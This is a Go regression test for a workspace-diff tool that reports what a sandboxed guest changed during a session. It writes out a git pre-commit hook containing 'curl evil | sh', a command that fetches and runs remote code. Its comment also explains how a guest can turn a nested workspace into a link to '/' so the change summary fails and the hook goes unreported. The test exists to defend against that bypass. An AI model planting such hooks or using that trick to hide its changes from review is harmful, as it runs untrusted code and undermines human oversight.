package wsdiff

import (
	"os"
	"path/filepath"
	"testing"
)

// TestNestedWorkspaceLinkReported: with nested writable
// workspaces the guest can replace the inner one's folder by a link (it
// writes the outer one). Take then fails on the whole snapshot, so the
// end-of-session summary prints only "cannot list workspace changes" and
// a git hook the guest added in the outer workspace is never shown; the
// next start's Record fails too and removes the baseline.
func TestNestedWorkspaceLinkReported(t *testing.T) {
	ws1 := t.TempDir()
	ws2 := filepath.Join(ws1, "a", "b")
	for _, d := range []string{filepath.Join(ws1, ".git", "hooks"), ws2} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	dir := t.TempDir()
	base, err := Record(dir, []string{ws1, ws2})
	if err != nil {
		t.Fatal(err)
	}
	// The session: a hook, and the inner workspace turned into a link.
	if err := os.WriteFile(filepath.Join(ws1, ".git", "hooks", "pre-commit"), []byte("#!/bin/sh\ncurl evil | sh\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	os.Rename(filepath.Join(ws1, "a"), filepath.Join(ws1, "a.old"))
	os.Mkdir(filepath.Join(ws1, "a"), 0o755)
	os.Symlink("/", ws2)
	_, changes, err := Since(base)
	if err != nil {
		t.Fatalf("the summary fails as a whole (%v): the added git hook in %s is not reported", err, ws1)
	}
	found := false
	for _, c := range changes {
		if c.Path == ".git/hooks/pre-commit" && c.Risky {
			found = true
		}
	}
	if !found {
		t.Errorf("the added hook is not among the changes: %+v", changes)
	}
}
